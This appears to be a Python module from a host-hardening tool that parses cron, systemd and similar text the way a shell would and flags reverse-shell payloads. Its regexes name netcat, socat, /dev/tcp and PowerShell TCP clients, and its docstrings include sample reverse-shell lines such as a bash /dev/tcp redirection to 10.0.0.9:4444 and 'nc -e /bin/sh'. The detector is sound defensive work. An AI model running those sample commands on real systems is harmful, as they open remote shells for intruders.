"""What a command line, a script line or a web page runs, judged as a reverse-shell payload (pure).

Persistence (:mod:`hardening.hunt.persistence`) reads text, not processes: a cron line, an
``ExecStart=``, a ``command=`` of an authorized key. This module splits such text into simple
commands the way a POSIX shell would (words, pipelines, ``;``/``&&``/``||`` lists, ``sh -c`` and
wrappers such as ``nohup`` or ``setsid``) and judges each with the live hunt's own knowledge
(:mod:`hardening.hunt.score`: what a netcat-like's exec option is, per tool; what inline code an
interpreter runs), so a ``nc -vne /bin/sh`` in a crontab is read exactly as the same process
would be. Base64 payloads are decoded here (bounded) and their text judged too. Nothing runs.

Example::

    >>> [(t.value, why) for t, why in judge("* * * * * root bash -c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'")][:1]
    [('high', 'opens /dev/tcp/10.0.0.9/4444 (bash network redirection)')]
"""

from __future__ import annotations

import base64
import binascii
import re
import shlex

from hardening.hunt.model import Process, Tier
from hardening.hunt.score import _UGLY_DIRS, _base, _inline_code, exec_option, kind, tool

MAX_TEXT = 16384  # characters of one text judged
MAX_DEPTH = 3  # sh -c / base64 nesting followed
MAX_B64 = 8  # base64 candidates decoded per text
MAX_SEGMENTS = 64  # simple commands judged per text

_DEV_NET = re.compile(r"/dev/(tcp|udp)/[^/\s\"'`;|&<>]+/\d{1,5}")
# Code that opens a socket, and code that hands it a program (an interpreter one-liner, a web shell).
_SOCKET = re.compile(
    r"socket\.socket|socket\(|fsockopen|TCPSocket|IO::Socket|Socket\.tcp|net\.connect|createConnection|"
    r"new\s+Socket\b|Net\.Sockets\.TCPClient|socket\.connect|stream_socket_client|/inet[46]?/tcp/|"
    r"require\s*\(?\s*['\"](?:socket|net)['\"]|\bztcp\b|create_connection",
    re.IGNORECASE,
)
_EXECS = re.compile(
    r"dup2|pty\.spawn|subprocess|child_process|spawn\(|exec\(|execv|system\(|popen|proc_open|"
    r"\b(?:system|exec)\s*\$|`[^`]*\b(?:ba|da|z|k)?sh\b|\b(?:ba|da|z|k)?sh\s*[<>]&\s*\$|/bin/(?:ba|da|z|k)?sh\b|cmd\.exe|\bexec\s+\d*[<>]|sh\s+-i|IO\.popen|Process\.Start|os\.execute",
    re.IGNORECASE,
)
_PS_B64_EXEC = re.compile(r"FromBase64String", re.IGNORECASE)
_PS_IEX = re.compile(r"\b(IEX|Invoke-Expression)\b|\|\s*iex\b", re.IGNORECASE)
_TCPCLIENT = re.compile(r"Net\.Sockets\.TCPClient", re.IGNORECASE)
_B64 = re.compile(r"[A-Za-z0-9+/]{20,}={0,2}")
_FD_REDIRECT = re.compile(r"(?:(?<=\s)|^)\d+(?=[<>])")
_ASSIGN = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_SEPARATORS = frozenset({";", "&&", "||", "&", "(", ")", "\n", "{", "}", "|&"})
_REDIRECTS = re.compile(r"^\d*(?:[<>]&?|>>|<>|&>>?)$")
# Programs that run their arguments as a command (nohup sh -c ..., setsid nc ...).
_WRAPPERS = frozenset(
    {
        "exec", "nohup", "setsid", "sudo", "env", "nice", "ionice", "stdbuf", "chrt", "taskset",
        "timeout", "command", "builtin", "time", "doas", "runuser", "chroot", "xargs", "busybox",
    }
)  # fmt: skip
_WRAPPER_ARG = {"timeout": 1, "nice": 0, "chrt": 1, "taskset": 1, "runuser": 0, "chroot": 1}
_DOWNLOADERS = frozenset({"curl", "wget", "fetch", "tftp", "ftp"})
_B64_TOOLS = frozenset({"base64", "openssl", "base32", "xxd", "uudecode"})
# Filters that turn a stored text into another (reversed, translated, decompressed): piped into a
# shell, what runs is not the text a reader sees.
_TRANSFORMS = frozenset(
    {"rev", "tr", "zcat", "gunzip", "gzip", "bzcat", "bzip2", "xzcat", "xz", "unxz", "zstdcat", "zstd"}
)
# Programs that run their argument words as shell code (eval), or a file as a script (. / source).
_EVALS = frozenset({"eval"})
_SOURCES = frozenset({".", "source"})
_LOADER_VARS = re.compile(r"^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT)=(.*)$")
# An interactive shell whose standard input comes from a redirection (bash -i >& X 0>&1): the form
# of a reverse shell whatever X is spelled like (a variable, a quoted or escaped /dev/tcp).
_INTERACTIVE_REDIRECT = re.compile(
    r"\b(?:ba|da|z|k|mk|a)?sh\s+(?:-[A-Za-z]*i[A-Za-z]*\s+)+[^;|]*?(?:>&|&>|<>)[^;|]*?(?:0<&|0>&|<&)\s*\d"
)
# String literals of inline interpreter code: what os.system("...") or exec("...") would run.
_LITERALS = re.compile(r"'((?:[^'\\]|\\.){4,})'|\"((?:[^\"\\]|\\.){4,})\"")
_PRINTF_ESC = re.compile(r"\\(?:([0-7]{1,3})|x([0-9A-Fa-f]{1,2}))")
_SUBST_DOWNLOAD = re.compile(r"^\s*(?:\$\(|`)\s*(curl|wget|fetch|tftp)\b")
_SUBST = re.compile(r"^\s*(?:\$\((.*)\)|`(.*)`)\s*$", re.DOTALL)
_SSH_TUNNEL = frozenset({"ssh", "autossh", "dbclient", "plink"})
_IFS = re.compile(r"\$\{IFS[^}]{0,16}\}|\$IFS\b")
_ANSI_C = re.compile(r"\$'((?:[^'\\]|\\.)*)'", re.DOTALL)
_ANSI_ESC = re.compile(r"\\(x[0-9A-Fa-f]{1,2}|u[0-9A-Fa-f]{1,4}|U[0-9A-Fa-f]{1,8}|[0-7]{1,3}|c.|.)", re.DOTALL)
_ANSI_SIMPLE = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "v": "\v"}
UNUSUAL = re.compile(
    r"\b(?:nc|ncat|netcat|socat|telnet|curl|wget|base64|python[0-9.]*|perl|ruby|php[0-9.]*|lua|node|nodejs|"
    r"powershell|pwsh|mkfifo|mknod|nohup|setsid|disown|chmod\s+[+0-7]*[x7])\b|(?:^|\s)/(?:tmp|var/tmp|dev/shm)/"
)


def _ansi_c_char(m: re.Match[str]) -> str:
    esc = m.group(1)
    head = esc[0]
    try:
        if head in "xuU" and len(esc) > 1:
            return chr(int(esc[1:], 16))
        if head.isdigit():
            return chr(int(esc, 8) & 0xFF)
    except (ValueError, OverflowError):
        return esc
    if head == "c" and len(esc) == 2:
        return chr(ord(esc[1]) & 0x1F)
    return _ANSI_SIMPLE.get(head, esc)


def ansi_c(text: str) -> str:
    r"""``text`` with bash's ``$'...'`` strings decoded and re-quoted (``\x2f`` is ``/``), as the
    shell would pass them on.

    >>> ansi_c(r"bash -i >& $'\x2f'dev/tcp/h/1 0>&1")
    "bash -i >& '/'dev/tcp/h/1 0>&1"
    """
    if "$'" not in text:
        return text

    def requote(m: re.Match[str]) -> str:
        decoded = _ANSI_ESC.sub(_ansi_c_char, m.group(1))
        return "'" + decoded.replace("'", "'\\''") + "'"

    return _ANSI_C.sub(requote, text)


def _words(text: str) -> list[str]:
    """Shell words and operators of ``text`` (unbalanced quotes: whitespace split, never an error)."""
    text = _FD_REDIRECT.sub("", text[:MAX_TEXT])  # "2>&1": the fd number goes, the operator stays
    lex = shlex.shlex(text, posix=True, punctuation_chars=";&|()<>")
    lex.whitespace_split = True
    lex.commenters = ""
    try:
        return list(lex)
    except ValueError:
        return text[:MAX_TEXT].split()


def pipelines(text: str) -> list[list[list[str]]]:
    """``text`` as a list of pipelines, each a list of simple commands (argv, redirections dropped).

    >>> pipelines("echo aGk= | base64 -d | sh; nohup /tmp/x >/dev/null 2>&1 &")
    [[['echo', 'aGk='], ['base64', '-d'], ['sh']], [['nohup', '/tmp/x']]]
    """
    out: list[list[list[str]]] = []
    pipe: list[list[str]] = []
    cmd: list[str] = []
    skip = False
    for w in _words(text):
        if skip:
            skip = False
            continue
        if w in ("|", "|&"):
            pipe.append(cmd)
            cmd = []
        elif w in _SEPARATORS or set(w) <= set(";&|()"):
            if cmd:
                pipe.append(cmd)
            if pipe:
                out.append(pipe)
            pipe, cmd = [], []
        elif _REDIRECTS.match(w):
            skip = True  # its target
        elif w.startswith((">", "<")) or re.match(r"^\d+[<>]", w):
            continue
        else:
            cmd.append(w)
    if cmd:
        pipe.append(cmd)
    if pipe:
        out.append(pipe)
    return [[c for c in p if c] for p in out if any(p)]


def command_argv(argv: list[str]) -> list[str]:
    """The program a simple command runs, with its arguments: environment assignments and wrappers
    (``nohup``, ``setsid``, ``env X=1``, ``timeout 5``, ``exec``) skipped.

    >>> command_argv(["X=1", "nohup", "setsid", "timeout", "5", "nc", "-e", "/bin/sh", "h", "1"])
    ['nc', '-e', '/bin/sh', 'h', '1']
    """
    i = 0
    while i < len(argv):
        w = argv[i]
        base = _base(w)
        if _ASSIGN.match(w):
            i += 1
        elif base in _WRAPPERS:
            i += 1 + _WRAPPER_ARG.get(base, 0)
            while i < len(argv) and argv[i].startswith("-") and base not in ("exec", "command", "busybox"):
                i += 1
        else:
            return argv[i:]
    return []


def _proc(argv: list[str]) -> Process:
    exe = argv[0] if argv[0].startswith("/") else ""
    return Process(pid=0, ppid=0, comm=_base(argv[0])[:15], exe=exe, argv=tuple(argv))


def _shell_code(argv: list[str]) -> str | None:
    """The command string of ``sh -c STRING`` (clusters like ``-lc`` too)."""
    for i, a in enumerate(argv[1:], start=1):
        if a.startswith("-") and not a.startswith("--") and "c" in a[1:] and i + 1 < len(argv):
            return argv[i + 1]
    return None


def _decodes(text: str) -> list[str]:
    """Printable texts that base64 candidates in ``text`` decode to (UTF-8, or UTF-16LE as
    PowerShell's -EncodedCommand), at most :data:`MAX_B64`."""
    out = []
    for m in list(_B64.finditer(text[:MAX_TEXT]))[:MAX_B64]:
        raw = m.group(0)
        try:
            data = base64.b64decode(raw + "=" * (-len(raw) % 4), validate=True)
        except (binascii.Error, ValueError):
            continue
        for enc in ("utf-16-le", "utf-8") if data[1:2] == b"\0" else ("utf-8",):
            try:
                decoded = data.decode(enc)
            except UnicodeDecodeError:
                continue
            printable = sum(c.isprintable() or c in "\n\r\t" for c in decoded)
            if decoded and printable >= 0.9 * len(decoded):
                out.append(decoded)
                break
    return out


def _excerpt(text: str, limit: int = 120) -> str:
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 3] + "..."


def _judge_pipeline(pipe: list[list[str]], depth: int, out: list[tuple[Tier, str]]) -> None:
    argvs = [command_argv(c) for c in pipe]
    kinds = [kind(_proc(a)) if a else "other" for a in argvs]
    mkfifo = any(a and _base(a[0]) in ("mkfifo", "mknod") for a in argvs)
    for n, argv in enumerate(argvs):
        if not argv:
            continue
        proc = _proc(argv)
        k = kinds[n]
        prog = argv[0]
        nxt = kinds[n + 1] if n + 1 < len(argvs) else ""
        prev = argvs[n - 1] if n else []
        if prog.startswith(_UGLY_DIRS):
            out.append((Tier.HIGH, f"runs {prog} (a program in a world-writable temporary directory)"))
        elif k in ("shell", "interpreter") or _base(prog) in _SOURCES:
            script = _script_arg(argv)
            if script.startswith(_UGLY_DIRS):
                out.append((Tier.HIGH, f"runs the script {script} (in a world-writable temporary directory)"))
        if _base(prog) in _EVALS and depth < MAX_DEPTH:
            out.extend(judge(" ".join(argv[1:]), depth + 1))
        if depth < MAX_DEPTH and any(_base(w) == "env" for w in pipe[n]):
            split = _env_split(pipe[n][[_base(w) for w in pipe[n]].index("env") :])
            if split:
                out.extend(judge(split, depth + 1))
        for word in pipe_env(pipe[n]):
            out.append(word)
        if k == "netcat":
            flag = exec_option(proc)
            name = tool(proc) or _base(prog)
            if flag:
                out.append((Tier.HIGH, f"netcat-like {name} with exec option {flag!r}"))
            elif nxt in ("shell", "interpreter"):
                out.append((Tier.HIGH, f"netcat-like {name} piped into a {nxt}"))
            elif prev and kinds[n - 1] == "shell":
                out.append((Tier.HIGH, f"a shell piped into netcat-like {name}"))
            else:
                out.append((Tier.MEDIUM, f"runs netcat-like {name}"))
        elif k == "shell":
            code = _shell_code(argv)
            if code is not None and (m := _SUBST_DOWNLOAD.match(code)):
                out.append((Tier.MEDIUM, f"a {_base(prog)} runs what {m.group(1)} downloads (command substitution)"))
            if code is not None and depth < MAX_DEPTH:
                out.extend(judge(code, depth + 1))
                printed = _printed(code)
                if printed:
                    out.extend(judge(printed, depth + 1))
        elif k == "interpreter":
            code = _inline_code(proc)
            if code is not None:
                if _SOCKET.search(code) and _EXECS.search(code):
                    out.append((Tier.HIGH, f"{_base(prog)} one-liner opens a socket and runs a program"))
                elif _SOCKET.search(code):
                    out.append((Tier.MEDIUM, f"{_base(prog)} one-liner opens a socket"))
                if depth < MAX_DEPTH:
                    out.extend(judge(code, depth + 1))
                    for lit in _LITERALS.finditer(code[:MAX_TEXT]):
                        out.extend(judge(lit.group(1) or lit.group(2), depth + 1))
        base = _base(prog)
        if base in _SSH_TUNNEL and any(a.startswith("-") and not a.startswith("--") and "R" in a for a in argv[1:]):
            out.append((Tier.MEDIUM, f"{base} opens a reverse tunnel (-R): a port of another host reaches this one"))
        if base in _EVALS and depth < MAX_DEPTH and (m := _SUBST_DOWNLOAD.match(" ".join(argv[1:]))):
            out.append((Tier.MEDIUM, f"eval runs what {m.group(1)} downloads (command substitution)"))
        decodes = base in _B64_TOOLS and any(a in ("-d", "--decode", "-D", "-base64", "-r") for a in argv[1:])
        if decodes and nxt in ("shell", "interpreter"):
            out.append((Tier.HIGH, f"a base64-decoded payload piped into a {nxt}"))
        elif base in _TRANSFORMS and nxt in ("shell", "interpreter") and (base != "gzip" or "-d" in argv):
            out.append((Tier.HIGH, f"a text transformed by {base} piped into a {nxt} (what runs is hidden)"))
        if base in _DOWNLOADERS and nxt in ("shell", "interpreter"):
            out.append((Tier.MEDIUM, f"downloads with {base} and pipes it into a {nxt}"))
        if mkfifo and k in ("netcat", "shell") and len(argvs) > 1:
            out.append((Tier.HIGH, "a named pipe (mkfifo) joins a shell and a netcat-like"))


def _printed(code: str) -> str:
    """What ``$(printf X)`` / ``$(echo X)`` (or backquotes) prints, when that is the whole of a
    shell's code ("" otherwise): the shell then runs X."""
    m = _SUBST.match(code)
    if not m:
        return ""
    cmds = [command_argv(c) for p in pipelines(m.group(1) or m.group(2) or "") for c in p]
    if len(cmds) == 1 and cmds[0] and _base(cmds[0][0]) in ("printf", "echo"):
        args = cmds[0][1:]
        while args and _base(cmds[0][0]) == "echo" and re.fullmatch(r"-[neE]+", args[0]):
            args = args[1:]  # echo's own options, before the text
        return " ".join(args)
    return ""


def _printf_char(m: re.Match[str]) -> str:
    return chr(int(m.group(1), 8) & 0xFF) if m.group(1) else chr(int(m.group(2), 16))


def _script_arg(argv: list[str]) -> str:
    """The script file a shell or interpreter runs (its first operand), "" when it runs inline code."""
    for a in argv[1:]:
        if a.startswith("-"):
            if a in ("-c", "-e", "-r", "-E", "--command", "-m") or (len(a) > 1 and a[1] != "-" and "c" in a[1:]):
                return ""
            continue
        return a
    return ""


def _env_split(argv: list[str]) -> str:
    """The command string of ``env -S STRING`` / ``--split-string=STRING`` ("" when none)."""
    for i, a in enumerate(argv[1:], start=1):
        if a in ("-S", "--split-string") and i + 1 < len(argv):
            return argv[i + 1]
        if a.startswith("--split-string="):
            return a.partition("=")[2]
        if a.startswith("-S") and len(a) > 2:
            return a[2:]
    return ""


def pipe_env(argv: list[str]) -> list[tuple[Tier, str]]:
    """A loader variable set on a command (``LD_PRELOAD=/dev/shm/x.so prog``): high from a
    temporary directory, medium elsewhere (every program run then loads the library)."""
    out = []
    for w in argv:
        if not _ASSIGN.match(w):
            break
        m = _LOADER_VARS.match(w)
        if m and m.group(2):
            lib = m.group(2)
            tmp = any(p.startswith(_UGLY_DIRS) for p in re.split(r"[:\s]", lib))
            tier = Tier.HIGH if tmp else Tier.MEDIUM
            where = " (a world-writable temporary directory)" if tmp else ""
            out.append((tier, f"sets {m.group(1)}={lib[:120]}{where}: the program loads that library"))
    return out


def judge(text: str, depth: int = 0) -> list[tuple[Tier, str]]:
    """Why ``text`` (a command line, a script line) looks like a reverse-shell payload, strongest
    first; [] when nothing does. Decoded base64 is judged too (its reasons say so). Quoting is
    undone first as the shell would (``/d''ev/tcp``, ``$'\\x2f'dev/tcp``)."""
    text = _IFS.sub(" ", ansi_c(text[:MAX_TEXT]))  # ${IFS} splits words as a space does
    out: list[tuple[Tier, str]] = []
    m = _DEV_NET.search(text)
    if m is None:
        m = next((w for w in map(_DEV_NET.search, _words(text)) if w), None)
    if m:
        out.append((Tier.HIGH, f"opens {m.group(0)} (bash network redirection)"))
    elif _INTERACTIVE_REDIRECT.search(text):
        out.append((Tier.HIGH, "an interactive shell whose input and output are redirected (a reverse-shell form)"))
    if _TCPCLIENT.search(text):
        out.append((Tier.HIGH, "PowerShell opens a TCP client (Net.Sockets.TCPClient)"))
    if _PS_B64_EXEC.search(text) and _PS_IEX.search(text):
        out.append((Tier.HIGH, "PowerShell decodes base64 and runs it (FromBase64String + Invoke-Expression)"))
    if _SOCKET.search(text) and _EXECS.search(text) and not out:
        out.append((Tier.HIGH, "opens a socket and runs a program in one line"))
    pipes = pipelines(text)
    if "mkfifo" in text and any(kind(_proc(command_argv(c))) == "netcat" for p in pipes for c in p if command_argv(c)):
        out.append((Tier.HIGH, "a named pipe (mkfifo) joins a shell and a netcat-like"))
    for n, pipe in enumerate(pipes):
        if n >= MAX_SEGMENTS:
            break
        _judge_pipeline(pipe, depth, out)
    if depth < MAX_DEPTH and "printf" in text and _PRINTF_ESC.search(text):
        # printf '\156\143 -e ...' builds the command it prints: judge what it prints
        out.extend(judge(_PRINTF_ESC.sub(_printf_char, text), depth + 1))
    if depth < MAX_DEPTH:
        for decoded in _decodes(text):
            for tier, why in judge(decoded, depth + 1):
                out.append((tier, f"base64 payload decodes to {_excerpt(decoded)!r}: {why}"))
    out.sort(key=lambda r: -r[0].rank)
    return list(dict.fromkeys(out))


def unusual(text: str) -> str:
    """The first thing ``text`` runs that an ordinary service definition rarely does ("" if none):
    a netcat-like, an interpreter, a downloader, base64, a hidden or temporary path..."""
    m = UNUSUAL.search(text[:MAX_TEXT])
    return m.group(0).strip() if m else ""
